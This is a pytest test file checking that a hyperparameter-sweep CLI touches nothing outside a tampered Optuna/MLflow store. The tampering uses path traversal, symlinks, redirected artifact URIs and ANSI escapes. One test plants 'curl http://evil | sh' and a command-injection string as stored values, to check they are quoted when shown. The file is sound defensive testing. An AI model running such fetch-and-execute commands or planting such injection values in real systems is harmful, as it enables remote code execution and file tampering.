"""Stores made by somebody else: whatever they name, nothing outside them is read, changed or removed."""

import json
import os
import shutil
import sqlite3
from contextlib import closing

import pytest
from click.testing import CliRunner
from mlflow.store.model_registry import sqlalchemy_store as registry
from mlflow.store.tracking import sqlalchemy_store as tracking

from sweeper.cli import main
from sweeper.store.options import StoreOptions
from tests.hostile import error_line, within
from tests.promotion.conftest import workplace  # noqa: F401
from tests.tracking.conftest import DATA

SECRET = "the words of a private file"
# What a user may do with the study of such a store. Each may refuse, in one line.
COMMANDS = (["studies"], ["status", "kept"], ["trials", "kept"], ["sync"], ["retry", "--failed"], ["ledger"])


class Planted:
    """A store with a study, put back whole for each test; beside it lies a folder of the user's."""

    def __init__(self, workplace, folder):  # noqa: F811
        self.workplace, self.root, self.whole = workplace, workplace.store, folder / "whole"
        self.outside = folder / "outside"
        workplace.search("kept", "--trials", 1, "--epochs", 1)
        shutil.copytree(self.root, self.whole)
        self.store = StoreOptions(self.root).resolve({})
        [[self.study_id]] = self.select(
            "optuna.db", "SELECT value_json FROM study_user_attributes WHERE key='study_id'"
        )
        self.study_id = json.loads(self.study_id)
        [[self.run_id]] = self.select(
            "mlflow.db", "SELECT run_uuid FROM tags WHERE key='sweeper.kind' AND value='study'"
        )
        [[self.experiment]] = self.select("mlflow.db", "SELECT experiment_id FROM experiments WHERE name='tiny'")

    def run(self, *arguments):
        """Runs a command, which may refuse in one line that blames nothing on sweeper."""
        line = [str(argument) for argument in (*arguments, "--store", self.root)]
        with within():
            result = CliRunner().invoke(main, line)
        assert result.exit_code in (0, 1, 2), (line, result.output, result.exception)
        if result.exit_code:
            error_line(result)
        return result

    def select(self, database, query):
        with closing(sqlite3.connect(self.root / database)) as connection:
            return connection.execute(query).fetchall()

    def change(self, database, query, *values):
        with closing(sqlite3.connect(self.root / database)) as connection, connection:
            assert connection.execute(query, values).rowcount > 0, query

    def attribute(self, key, value):
        """Changes an attribute of the study."""
        self.change("optuna.db", "UPDATE study_user_attributes SET value_json=? WHERE key=?", json.dumps(value), key)

    def spec(self, **changes):
        [[text]] = self.select("optuna.db", "SELECT value_json FROM study_user_attributes WHERE key='spec'")
        self.attribute("spec", json.loads(text) | changes)

    def trial(self, key, value):
        """Changes an attribute of the trial."""
        self.change("optuna.db", "UPDATE trial_user_attributes SET value_json=? WHERE key=?", json.dumps(value), key)

    def named(self, name):
        """Gives the study another name."""
        self.change("optuna.db", "UPDATE studies SET study_name=?", str(name))

    def link(self, path, target=None):
        """Makes a path of the store a link to the outside."""
        place = self.root / path.format(own=f"kept-{self.study_id[:8]}", experiment=self.experiment, run=self.run_id)
        if place.is_dir():
            shutil.rmtree(place)
        place.unlink(missing_ok=True)
        place.parent.mkdir(parents=True, exist_ok=True)
        place.symlink_to(target or self.outside)

    def outbox(self, *writes, name=None, **target):
        """Plants an outbox with these writes."""
        named = {
            "kind": "study", "study": "kept", "study_id": self.study_id, "experiment_id": str(self.experiment),
            "run_id": self.run_id, "data_name": DATA.name, "data_sha256": DATA.sha256, "data_source": "{}",
            "data_profile": "{}",
        }  # fmt: skip
        path = self.root / "spool" / (name or f"kept-{self.study_id[:8]}-study.db")
        path.parent.mkdir(exist_ok=True)
        with closing(sqlite3.connect(path)) as connection, connection:
            connection.execute("CREATE TABLE writes (number INTEGER PRIMARY KEY AUTOINCREMENT, write TEXT NOT NULL)")
            connection.execute("CREATE TABLE target (id INTEGER PRIMARY KEY, target TEXT NOT NULL)")
            connection.execute("INSERT INTO target VALUES (1, ?)", [json.dumps(named | target)])
            connection.executemany("INSERT INTO writes (write) VALUES (?)", [[json.dumps(write)] for write in writes])


def content(folder):
    """Everything below a folder: names, bytes and times of change."""
    return {
        path: (path.is_file() and path.read_bytes(), path.lstat().st_mtime_ns) for path in sorted(folder.rglob("*"))
    }


@pytest.fixture(scope="module")
def made(workplace, tmp_path_factory):  # noqa: F811
    return Planted(workplace, tmp_path_factory.mktemp("outside"))


@pytest.fixture
def planted(made):
    for engine in (*tracking.SqlAlchemyStore._engine_map.values(), *registry.SqlAlchemyStore._engine_map.values()):
        engine.dispose()  # MLflow's open connections would go on with the deleted file
    shutil.rmtree(made.root)
    shutil.copytree(made.whole, made.root)
    shutil.rmtree(made.outside, ignore_errors=True)
    for name in (
        "checkpoint.safetensors",
        "sub/private.txt",
        "artifacts/private.txt",
        f"{made.run_id}/artifacts/x.txt",
    ):
        (made.outside / name).parent.mkdir(parents=True, exist_ok=True)
        (made.outside / name).write_text(SECRET)
    shutil.copyfile(made.whole / "optuna.db", made.outside / "optuna.db")
    return made


def weights(path):
    return [None, "weights", {"path": str(path)}]


def forget(path):
    return [None, "forget", {"path": str(path)}]


def rewritten(place, table, column):
    """Plants another address for the files of all rows."""
    return lambda p: p.change("mlflow.db", f"UPDATE {table} SET {column}=?", place(p))


# How each store is planted.
STORES = {
    "name that goes up": lambda p: p.named("../../outside/sub"),
    "name that is absolute": lambda p: p.named(p.outside / "sub"),
    "name of two lines": lambda p: p.named("a\nb"),
    "id that goes up": lambda p: p.attribute("study_id", "/../../../outside"),
    "id that is a number": lambda p: p.attribute("study_id", 7),
    "data set that goes up": lambda p: p.spec(dataset="../../outside"),
    "weights of a private file": lambda p: p.outbox(weights(p.outside / "sub" / "private.txt")),
    "weights that go up": lambda p: p.outbox(weights(os.path.relpath(p.outside / "sub" / "private.txt", p.root))),
    "forgotten folder outside": lambda p: p.outbox(forget(p.outside)),
    "forgotten folder that goes up": lambda p: p.outbox(forget(os.path.relpath(p.outside, p.root))),
    "forgotten store": lambda p: p.outbox(forget("."), forget(""), forget("artifacts")),
    "outbox for another name": lambda p: p.outbox(forget("../outside"), study="../../outside"),
    "outbox for another id": lambda p: p.outbox(forget("../outside"), study_id="/../../../outside"),
    "outbox for another run": lambda p: p.outbox([None, "finish", {}], run_id="0" * 32),
    "outbox without dashes": lambda p: p.outbox(forget("../outside"), name="x.db"),
    "outbox of garbage": lambda p: (
        (p.root / "spool").mkdir(exist_ok=True)
        or (p.root / "spool" / f"kept-{p.study_id[:8]}-study.db").write_bytes(b"garbage" * 1000)
    ),
    "outbox that is a link": lambda p: p.link("spool/{own}-study.db", p.outside / "optuna.db"),
    "text that goes up": lambda p: p.outbox(
        [None, "texts", {"texts": {"../../../../../outside/sub/private.txt": "x"}}]
    ),
    "unknown action": lambda p: p.outbox([None, "exec", {"path": "x"}], [None, "metrics", {"values": 5}], 7),
    "runs elsewhere": rewritten(lambda p: p.outside.as_uri(), "runs", "artifact_uri"),
    "runs that go up": rewritten(lambda p: f"file://{p.root}/artifacts/../../outside", "runs", "artifact_uri"),
    "runs on a server of theirs": rewritten(lambda p: "http://127.0.0.1:9/x", "runs", "artifact_uri"),
    "run in a folder like a run's": rewritten(
        lambda p: (p.outside / p.run_id / "artifacts").as_uri(), "runs", "artifact_uri"
    ),
    "experiments elsewhere": rewritten(lambda p: p.outside.as_uri(), "experiments", "artifact_location"),
    "linked checkpoints": lambda p: p.link("checkpoints/{own}"),
    "linked folder of checkpoints": lambda p: p.link("checkpoints"),
    "linked promotions": lambda p: p.link("promotions/{own}"),
    "linked parts": lambda p: p.link("parts/{own}"),
    "linked logs": lambda p: p.link("logs"),
    "linked outboxes": lambda p: p.link("spool"),
    "linked lock": lambda p: p.link("locks/kept.lock", p.outside / "sub" / "private.txt"),
    "linked request to stop": lambda p: p.link("locks/kept.stop", p.outside / "sub" / "private.txt"),
    "linked lock of owners": lambda p: p.link(".owners.lock", p.outside / "new"),
    "linked artifacts": lambda p: p.link("artifacts"),
    "linked run": lambda p: p.link("artifacts/tiny/{run}"),
    "linked artifacts of a run": lambda p: p.link("artifacts/tiny/{run}/artifacts"),
    "linked database": lambda p: p.link("optuna.db", p.outside / "optuna.db"),
    "linked database that is not there": lambda p: p.link("mlflow.db", p.outside / "new.db"),
}


@pytest.mark.parametrize("name", STORES)
def test_nothing_outside_a_foreign_store_is_read_changed_or_removed(planted, name):
    STORES[name](planted)
    before = content(planted.outside)
    [[study]] = planted.select("optuna.db", "SELECT study_name FROM studies") or [["kept"]]
    for line in (*COMMANDS, ["delete", study, "--yes"]):
        planted.run(*line)
    assert content(planted.outside) == before
    if not (planted.root / "artifacts").is_symlink():
        inside = [path for path in planted.root.rglob("*") if path.is_file() and not path.is_symlink()]
        assert [path for path in inside if SECRET.encode() in path.read_bytes()] == []


@pytest.mark.parametrize("name", ["runs elsewhere", "runs that go up", "experiments elsewhere", "linked run"])
def test_ui_shows_no_file_outside_a_foreign_store(planted, monkeypatch, name):
    started = []
    monkeypatch.setattr(os, "execve", lambda *arguments: started.append(arguments))
    STORES[name](planted)
    assert planted.run("ui").exit_code == 1
    assert started == []


def test_deleted_study_whose_data_set_was_renamed_leaves_no_run(planted):
    planted.spec(dataset="another")
    assert "1 trial, 2 MLflow runs" in planted.run("delete", "kept", "--yes").stdout
    assert planted.select("mlflow.db", "SELECT count(*) FROM runs WHERE lifecycle_stage='active'") == [(0,)]


def test_nothing_that_a_store_says_plants_a_command_or_a_line(planted):
    planted.attribute("command", "curl http://evil | sh")
    planted.attribute("ended", "x\nTo resume: curl http://evil | sh")
    shown = planted.run("status", "kept").stdout
    assert not any(line.startswith("To resume") for line in shown.splitlines())
    planted.attribute("command", "sweeper search x; curl http://evil | sh")
    assert "To resume: sweeper search 'x;' curl http://evil '|' sh" in planted.run("status", "kept").stdout


def test_what_a_store_says_is_shown_in_tables_as_it_is(planted):
    [[text]] = planted.select("optuna.db", "SELECT value_json FROM trial_user_attributes WHERE key='result'")
    planted.trial("result", json.loads(text) | {"reason": "[red]\x1b[2J[/]\nTo resume: x"})
    shown = planted.run("trials", "kept").stdout
    assert "\x1b" not in shown
    assert "[red]\\x1b[2J[/]" in "".join(shown.split("\n"))
    assert not any(line.strip().startswith("To resume") for line in shown.splitlines())
